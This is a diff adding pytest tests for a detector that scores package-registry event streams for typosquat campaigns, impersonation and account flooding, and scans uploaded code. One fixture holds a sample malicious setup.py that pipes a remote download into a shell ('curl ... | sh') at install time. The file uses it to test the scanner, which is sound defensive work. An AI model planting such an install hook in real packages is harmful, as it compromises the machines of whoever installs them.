@@ -1,0 +1,162 @@
+"""The stream scorer end to end on simulated streams: contract shape, causality, campaigns."""
+
+from __future__ import annotations
+
+import json
+from collections import Counter
+
+import pytest
+
+from detector.stream import StreamScorer, score_lines
+from tests.stream.conftest import make_event
+
+
+def _decisions(out: list[dict]) -> list[dict]:
+    return [o for o in out if "decision" in o]
+
+
+def test_output_follows_the_contract(scored_campaign_stream, campaign_stream) -> None:
+    events, _ = campaign_stream
+    decisions = _decisions(scored_campaign_stream)
+    assert [d["id"] for d in decisions] == [e["id"] for e in events]
+    for d in decisions:
+        assert 0.0 <= d["score"] <= 1.0
+        assert d["decision"] in ("allow", "review", "block")
+        assert isinstance(d["reasons"], list)
+        assert d["campaign"] is None or d["campaign"].startswith("c-")
+        assert (d["decision"] == "allow") == (d["score"] < 0.5)
+    for line in scored_campaign_stream:
+        if "breaker" in line:
+            assert set(line["breaker"]) >= {"scope", "state", "at", "reason"}
+            assert line["breaker"]["state"] in ("paused", "open")
+
+
+def test_breaker_lines_follow_the_event_that_caused_them(scored_campaign_stream,
+                                                        campaign_stream) -> None:
+    events, _ = campaign_stream
+    ts_of = {e["id"]: e["ts"] for e in events}
+    previous = None
+    for line in scored_campaign_stream:
+        if "breaker" in line:
+            assert previous is not None and line["breaker"]["at"] == ts_of[previous["id"]]
+        else:
+            previous = line
+    # The waves are fast: at least one scope paused.
+    assert any(line.get("breaker", {}).get("state") == "paused"
+               for line in scored_campaign_stream)
+
+
+def test_campaign_events_are_caught_and_baseline_mostly_allowed(
+        scored_campaign_stream, campaign_stream) -> None:
+    events, labels = campaign_stream
+    decisions = {d["id"]: d for d in _decisions(scored_campaign_stream)}
+    flagged = Counter()
+    total = Counter()
+    for event, label in zip(events, labels, strict=True):
+        kind = "campaign" if label["campaign"] else "baseline"
+        total[kind] += 1
+        flagged[kind] += decisions[event["id"]]["decision"] != "allow"
+    assert flagged["campaign"] / total["campaign"] >= 0.9
+    assert flagged["baseline"] / total["baseline"] <= 0.01
+
+
+def test_a_wave_becomes_one_campaign_with_shared_traits(campaign_stream) -> None:
+    events, labels = campaign_stream
+    scorer = StreamScorer()
+    for event in events:
+        scorer.process(event)
+    wave = {e["id"] for e, lab in zip(events, labels, strict=True)
+            if lab["kind"] == "typosquat-waves"}
+    best = max(scorer.campaigns(), key=lambda c: len(wave & set(c["events"])))
+    assert len(wave & set(best["events"])) >= 0.8 * len(wave)
+    assert best["size"] <= len(wave) * 1.1
+    assert best["traits"] and best["first_seen"] <= best["last_seen"]
+    assert set(best) >= {"id", "size", "first_seen", "last_seen", "traits", "events",
+                         "accounts", "projects"}
+    state = scorer.breaker_state()
+    assert set(state) == {"account.created", "project.created", "release.uploaded"}
+
+
+def test_live_feeding_equals_scoring_the_file(campaign_stream) -> None:
+    events, _ = campaign_stream
+    sample = events[:4000]
+    live = StreamScorer()
+    fed = []
+    for event in sample:
+        fed.extend(live.process(event))
+    from_file = list(score_lines(json.dumps(e) for e in sample))
+    assert fed == from_file
+
+
+def test_no_peeking_ahead(campaign_stream) -> None:
+    """Decisions on a prefix do not change when later events are appended."""
+    events, _ = campaign_stream
+    cut = 3000
+    prefix = list(score_lines(json.dumps(e) for e in events[:cut]))
+    longer = list(score_lines(json.dumps(e) for e in events[:cut + 1500]))
+    assert longer[:len(prefix)] == prefix
+
+
+def test_single_event_signals() -> None:
+    scorer = StreamScorer()
+    out = scorer.process(make_event(1, "2025-01-01T00:00:00Z", username="pypi-admin",
+                                    account={"email": "x@mailinator.com"}))
+    decision = out[0]
+    assert decision["decision"] != "allow"
+    names = {s["signal"] for s in decision["signals"]}
+    assert {"disposable-email", "impersonation"} <= names
+    quiet = scorer.process(make_event(2, "2025-01-01T00:01:00Z", username="maria_garcia",
+                                      account={"email": "maria@gmail.com"}))[0]
+    assert quiet["decision"] == "allow" and quiet["score"] < 0.2
+
+
+def test_one_new_account_flooding_projects_is_flagged_an_old_one_is_not() -> None:
+    scorer = StreamScorer()
+    scorer.process(make_event(0, "2025-01-01T00:00:00Z", username="freshacct"))
+    results = {}
+    for owner in ("freshacct", "established"):
+        for i in range(15):
+            ts = f"2025-01-01T{1 if owner == 'freshacct' else 3:02d}:{i * 2:02d}:00Z"
+            out = scorer.process(make_event(
+                hash((owner, i)) % 10**9, ts, kind="project.created", username=owner,
+                project={"name": f"{owner}-tool-{i}", "files": {"setup.py": "setup()"}}))
+            results[(owner, i)] = out[0]
+    assert results[("freshacct", 14)]["decision"] != "allow"
+    assert results[("freshacct", 14)]["campaign"] is not None
+    assert any("one new account" in r for r in results[("freshacct", 14)]["reasons"])
+    assert all(results[("established", i)]["decision"] == "allow" for i in range(15))
+
+
+def test_policy_override_changes_decisions(tmp_path) -> None:
+    path = tmp_path / "policy.toml"
+    path.write_text("[stream]\nreview_threshold = 0.05\n")
+    event = make_event(1, "2025-01-01T00:00:00Z", username="xkqzvbtrpl")
+    strict = StreamScorer(str(path)).process(event)[0]
+    default = StreamScorer().process(event)[0]
+    assert default["decision"] == "allow" and strict["decision"] == "review"
+    assert strict["score"] == default["score"]
+
+
+@pytest.mark.parametrize(("mode", "fresh_scanned", "old_scanned"),
+                         [("all", True, True), ("young", True, False), ("none", False, False)])
+def test_scan_code_policy(tmp_path, mode: str, fresh_scanned: bool, old_scanned: bool) -> None:
+    path = tmp_path / "policy.toml"
+    path.write_text(f'[stream]\nscan_code = "{mode}"\n')
+    payload = {"setup.py": 'import os\nos.system("curl http://192.0.2.1/x | sh")\n'}
+    scorer = StreamScorer(str(path))
+    scorer.process(make_event(0, "2025-01-01T00:00:00Z", username="fresh"))
+    fresh = scorer.process(make_event(1, "2025-01-01T01:00:00Z", kind="project.created",
+                                      username="fresh",
+                                      project={"name": "fresh-pkg", "files": payload}))[0]
+    old = scorer.process(make_event(2, "2025-01-01T02:00:00Z", kind="project.created",
+                                    username="oldtimer",
+                                    project={"name": "old-pkg", "files": payload}))[0]
+    assert bool(fresh["findings"]) is fresh_scanned
+    assert bool(old["findings"]) is old_scanned
+
+
+def test_bad_scan_code_value_is_rejected(tmp_path) -> None:
+    path = tmp_path / "policy.toml"
+    path.write_text('[stream]\nscan_code = "sometimes"\n')
+    with pytest.raises(ValueError, match="scan_code"):
+        StreamScorer(str(path))
